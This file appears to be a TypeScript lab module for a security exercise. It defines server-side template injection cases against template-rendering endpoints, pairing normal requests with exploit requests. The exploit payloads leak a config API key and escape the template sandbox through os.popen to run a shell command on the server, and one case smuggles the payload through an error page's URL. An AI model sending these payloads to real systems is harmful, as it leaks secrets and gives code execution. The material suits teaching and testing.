import type { LabModule } from '../../labModule';

const CONFIG = '{{ config.API_KEY }}';
const SHELL = "{{ cycler.__init__.__globals__.os.popen('echo pwned > pwned.txt').read() }}";

export const lab: LabModule = {
  cases: [
    {
      name: 'f-string: the configuration',
      honest: [
        { to: '/hello', shows: '<h1>Hello World!</h1>' },
        { to: '/hello?name=Ann', shows: '<h1>Hello Ann!</h1>' },
      ],
      exploit: [{ to: '/hello', query: { name: CONFIG } }],
      proof: { body: 'key-of-the-shop' },
    },
    {
      name: 'f-string: a shell on the server',
      honest: [],
      exploit: [{ to: '/hello', query: { name: SHELL } }],
      proof: { file: 'pwned.txt' },
    },
    {
      name: 'percent, in a variable',
      honest: [{ to: '/percent?who=Ann', shows: '<p>3 items for Ann</p>' }],
      exploit: [{ to: '/percent', query: { who: CONFIG } }],
      proof: { body: 'key-of-the-shop' },
    },
    {
      name: 'str.format',
      honest: [{ to: '/format?who=Ann', shows: '<p>Ann, the shop</p>' }],
      exploit: [{ to: '/format', query: { who: CONFIG } }],
      proof: { body: 'key-of-the-shop' },
    },
    {
      name: 'plus, round other tags',
      honest: [{ to: '/plus?who=Ann', shows: '<b>Ann</b>' }],
      exploit: [{ to: '/plus', query: { who: '{{ 6 * 7 }}-' } }],
      proof: { body: '42-' },
    },
    {
      name: 'an error page that shows the address',
      honest: [{ to: '/nowhere', status: 404, shows: 'No page /nowhere' }],
      exploit: [{ to: '/%7B%7B%20config.API_KEY%20%7D%7D' }],
      proof: { body: 'key-of-the-shop' },
    },
  ],
};
